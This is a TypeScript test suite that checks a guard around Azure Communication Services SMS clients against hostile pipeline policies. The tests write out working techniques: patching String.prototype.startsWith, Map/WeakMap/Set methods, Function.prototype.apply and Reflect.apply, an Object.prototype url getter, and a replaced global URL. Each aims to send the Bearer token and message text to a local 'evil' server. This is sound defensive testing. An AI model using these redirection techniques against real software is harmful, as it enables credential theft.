// Twelfth review (/tmp/review-r1): a pipeline policy reaches every JavaScript built-in prototype from the objects it is
// handed (`request.url` is a string). It replaced String.prototype.startsWith so that the guard's URL prefix check
// accepted a URL rewritten to a plain-http server (the Bearer token and the SMS text went there), and so that an
// HMAC-SHA256 signature passed as "Bearer " in the guard and in the wire backstop. The guard now decides with
// built-ins captured when acs-baseline loads (guard/builtins.ts), as Node's own internals do.
import { ClientRequest } from "node:http";
import { Agent, request as httpsRequest } from "node:https";
import { connect as connectTcp } from "node:net";
import { describe, expect, it } from "vitest";
import { AcsClientFactory } from "../../packages/acs-baseline/src/index.js";
import type { Emulator, TestApplication } from "../../packages/emulator/src/index.js";
import { emulatorFactoryOptions } from "../../packages/emulator/src/index.js";
import { useEmulator } from "../support/useEmulator.js";
import { codeOf, plainSink, sleep } from "../support/carrierProbe.js";
import type { Method } from "../support/hostilePolicy.js";
import { usePatches, withPolicy } from "../support/hostilePolicy.js";
import { foreignTlsServer, movingUrlPolicy } from "../support/movedUrl.js";

let emu: Emulator;
let app: TestApplication;
useEmulator({ onStarted: (started) => ({ emu, app } = started) });

const SMS = { from: "+14255550100", to: ["+14255550123"], message: "BUILTIN-PATCH-TEXT" };
const HMAC = "HMAC-SHA256 SignedHeaders=x-ms-date;host;x-ms-content-sha256&Signature=AAAA";
const { replace, undoLater } = usePatches();

/** String.prototype.startsWith answers that a string starting with "HMAC" starts with "Bearer ". */
const hmacStartsWithBearer = (): void =>
  replace(
    String.prototype,
    "startsWith",
    (original) =>
      function (this: unknown, ...args: unknown[]) {
        const self = String(this);
        if (args[0] === "Bearer " && original.call(self, "HMAC") === true) return true;
        return original.apply(self, args);
      },
  );

const acsRequests = (): number => emu.requests.filter((r) => r.side === "acs").length;

describe("a policy that replaces String.prototype.startsWith", () => {
  it("cannot send a request rewritten to a plain-http server: KEY_AUTH_BLOCKED, nothing reaches the server", async () => {
    const { sink, port, text } = await plainSink();
    const evil = `http://127.0.0.1:${port}`;
    const factory = new AcsClientFactory(emulatorFactoryOptions(emu, app));
    const sms = withPolicy(factory, (request, next) => {
      const url = new URL(request.url);
      request.url = evil + url.pathname + url.search;
      request.allowInsecureConnection = true;
      replace(
        String.prototype,
        "startsWith",
        (original) =>
          function (this: unknown, ...args: unknown[]) {
            const self = String(this);
            if (original.call(self, evil) === true && original.call(args[0], "https://") === true) return true;
            return original.apply(self, args);
          },
      );
      return next(request);
    });
    try {
      expect(await codeOf(sms.send(SMS))).toBe("KEY_AUTH_BLOCKED");
      await sleep(100);
      expect(text().length).toBe(0);
    } finally {
      await factory.close();
      sink.close();
    }
  });

  it("cannot pass an HMAC-SHA256 signature as Bearer: KEY_AUTH_BLOCKED, ACS sees nothing", async () => {
    const factory = new AcsClientFactory(emulatorFactoryOptions(emu, app));
    const sms = withPolicy(factory, (request, next) => {
      request.headers.set("authorization", HMAC);
      hmacStartsWithBearer();
      return next(request);
    });
    try {
      const before = acsRequests();
      expect(await codeOf(sms.send(SMS))).toBe("KEY_AUTH_BLOCKED");
      expect(acsRequests()).toBe(before);
    } finally {
      await factory.close();
    }
  });
});

/** An HMAC-signed request to the emulator made by code outside any factory client: "error <code>" or "status <n>". */
function keyedRequest(): Promise<string> {
  const port = Number(new URL(emu.endpoint).port);
  return new Promise((resolve) => {
    const req = httpsRequest(
      {
        host: "localhost",
        port,
        method: "POST",
        path: "/sms?api-version=2021-03-07",
        ca: emu.caCertificatePem,
        headers: { authorization: HMAC, "content-type": "application/json" },
      },
      (res) => {
        res.resume();
        resolve(`status ${res.statusCode}`);
      },
    );
    req.on("error", (e: Error & { code?: string }) => resolve(`error ${e.code ?? e.message}`));
    req.end("{}");
  });
}

it("the wire backstop decides with built-ins captured at load: startsWith, WeakSet/WeakMap/Map lookups and Set iteration replaced, an HMAC request to the endpoint is still stopped", async () => {
  const port = Number(new URL(emu.endpoint).port);
  const factory = new AcsClientFactory(
    emulatorFactoryOptions(emu, app, { endpoint: `https://localhost:${port}`, allowedHosts: ["localhost"] }),
  );
  try {
    const before = acsRequests();
    hmacStartsWithBearer();
    // "Already stopped": every request counts as one.
    replace(
      WeakSet.prototype,
      "has",
      (original) =>
        function (this: unknown, value: unknown) {
          return value instanceof ClientRequest ? true : original.call(this, value);
        },
    );
    replace(
      WeakMap.prototype,
      "get",
      (original) =>
        function (this: unknown, key: unknown) {
          return key instanceof ClientRequest ? { verdict: null } : original.call(this, key);
        },
    );
    // Parsed host names: another host.
    replace(
      Map.prototype,
      "get",
      (original) =>
        function (this: unknown, key: unknown) {
          return typeof key === "string" && key.includes("localhost")
            ? { hostname: "elsewhere", port: 1 }
            : original.call(this, key);
        },
    );
    // The open factories: none.
    for (const name of [Symbol.iterator, "values"] as const) {
      replace(
        Set.prototype,
        name,
        (original) =>
          function (this: unknown) {
            for (const v of original.call(this) as Iterable<unknown>)
              if (typeof v === "object" && v !== null && "onBlocked" in v) return [][Symbol.iterator]();
            return original.call(this);
          },
      );
    }
    expect(await keyedRequest()).toBe("error KEY_AUTH_BLOCKED");
    expect(acsRequests()).toBe(before);
  } finally {
    await factory.close();
  }
});

describe("the guard's tables and its private agents' calls are the built-ins captured at load", () => {
  it("WeakMap.prototype.get replaced to hand out the policy's agent and unverified TLS settings: the request still goes to ACS, nothing to the policy's socket", async () => {
    const { sink, port, text } = await plainSink();
    const evilAgent = new Agent({ keepAlive: false });
    (evilAgent as unknown as { createConnection: () => unknown }).createConnection = () =>
      connectTcp(port, "127.0.0.1").on("error", () => undefined);
    const factory = new AcsClientFactory(emulatorFactoryOptions(emu, app));
    let armed = false;
    const sms = withPolicy(factory, (request, next) => {
      if (armed) {
        armed = false;
        replace(
          WeakMap.prototype,
          "get",
          (original) =>
            function (this: unknown, key: unknown) {
              const value = original.call(this, key) as Record<string, unknown> | undefined;
              if (typeof value === "object" && value !== null && ("keepAlive" in value || "close" in value))
                return { keepAlive: evilAgent, close: evilAgent };
              if (typeof value === "object" && value !== null && value.rejectUnauthorized === true)
                return { rejectUnauthorized: false };
              return value;
            },
        );
      }
      return next(request);
    });
    try {
      expect(await codeOf(sms.send(SMS))).toBe("sent");
      armed = true;
      expect(await codeOf(sms.send({ ...SMS, to: ["+14255550124"] }))).toBe("sent");
      await sleep(100);
      expect(text().length).toBe(0);
    } finally {
      await factory.close();
      sink.close();
      evilAgent.destroy();
    }
  });

  it("Function.prototype.apply and call and Reflect.apply replaced to run the policy's createConnection: the carrier still connects to ACS", async () => {
    const { sink, port, text } = await plainSink();
    const createConnection = Agent.prototype.createConnection as unknown;
    const toSink = () => connectTcp(port, "127.0.0.1").on("error", () => undefined);
    // keep-alive off: the request opens a connection of its own
    const factory = new AcsClientFactory(emulatorFactoryOptions(emu, app));
    const sms = factory.createSmsClient({
      retryOptions: { maxRetries: 0 },
      additionalPolicies: [
        {
          position: "perRetry",
          policy: {
            name: "builtins",
            sendRequest(request, next) {
              request.disableKeepAlive = true;
              for (const name of ["apply", "call"])
                replace(
                  Function.prototype,
                  name,
                  (original) =>
                    function (this: unknown, ...args: unknown[]) {
                      return this === createConnection ? toSink() : Reflect.apply(original, this, args);
                    },
                );
              const reflectApply = Reflect.apply;
              replace(
                Reflect,
                "apply",
                () =>
                  function (target: unknown, self: unknown, args: unknown) {
                    return target === createConnection
                      ? toSink()
                      : reflectApply(target as Method, self, args as unknown[]);
                  },
              );
              return next(request);
            },
          },
        },
      ],
    });
    try {
      expect(await codeOf(sms.send(SMS))).toBe("sent");
      await sleep(100);
      expect(text().length).toBe(0);
    } finally {
      await factory.close();
      sink.close();
    }
  });
});

// Thirteenth review (/tmp/review-r3/protoUrl.mjs): the checked copy had own members only for what the guard set, so a
// policy that deleted the request's own `url` and gave Object.prototype a `url` getter answered the check with the
// endpoint and the HTTP client with a plain-http server of its own.
it("a url getter on Object.prototype (the request's own url deleted) answers nothing: the copy's url is its own, read once", async () => {
  const { sink, port, text } = await plainSink();
  const evil = `http://127.0.0.1:${port}`;
  const ORIGINAL = Symbol.for("@azure/core-client original request");
  const factory = new AcsClientFactory(emulatorFactoryOptions(emu, app));
  const sms = withPolicy(factory, (request, next) => {
    const real = request.url;
    const url = new URL(real);
    const bad = evil + url.pathname + url.search;
    delete (request as { url?: string }).url;
    request.allowInsecureConnection = true;
    const reads = new WeakMap<object, number>();
    Object.defineProperty(Object.prototype, "url", {
      configurable: true,
      get(this: object) {
        if (this === request || !Object.prototype.hasOwnProperty.call(this, ORIGINAL)) return real;
        const n = (reads.get(this) ?? 0) + 1;
        reads.set(this, n);
        return n === 1 ? real : bad;
      },
    });
    undoLater(() => delete (Object.prototype as { url?: unknown }).url);
    return next(request).finally(() => {
      delete (Object.prototype as { url?: unknown }).url;
      request.url = real;
    });
  });
  try {
    const before = acsRequests();
    expect(await codeOf(sms.send(SMS))).toBe("KEY_AUTH_BLOCKED");
    await sleep(100);
    expect(text().length).toBe(0);
    expect(acsRequests()).toBe(before);
  } finally {
    await factory.close();
    sink.close();
  }
});

// Fifteenth review (/tmp/review-r4/urlSwap.mjs): the SDK's HTTP client parses the checked URL again with the global URL,
// which a policy can replace: a URL class whose constructor moved the endpoint's port to another TLS server (with a
// certificate the client trusts) sent the Bearer token and the SMS text there, and the audit record named ACS. The
// guard's carriers now serve one destination each and refuse to connect anywhere else.
it("globalThis.URL replaced so the HTTP client connects elsewhere: the carrier refuses (KEY_AUTH_BLOCKED), nothing is sent", async () => {
  const foreign = await foreignTlsServer();
  const factory = new AcsClientFactory({
    ...emulatorFactoryOptions(emu, app),
    clientOptions: { tlsOptions: { ca: [emu.caCertificatePem, foreign.caPem] } },
  });
  const moving = movingUrlPolicy(new URL(emu.endpoint), foreign.port);
  const sms = withPolicy(factory, (request, next) => moving.sendRequest(request, next));
  try {
    const before = acsRequests();
    expect(await codeOf(sms.send(SMS))).toBe("KEY_AUTH_BLOCKED");
    expect(foreign.got).toEqual([]);
    expect(acsRequests()).toBe(before);
    // The same client, the global URL left alone: sent.
    expect(await codeOf(factory.createSmsClient().send(SMS))).toBe("sent");
  } finally {
    await factory.close();
    foreign.close();
  }
});
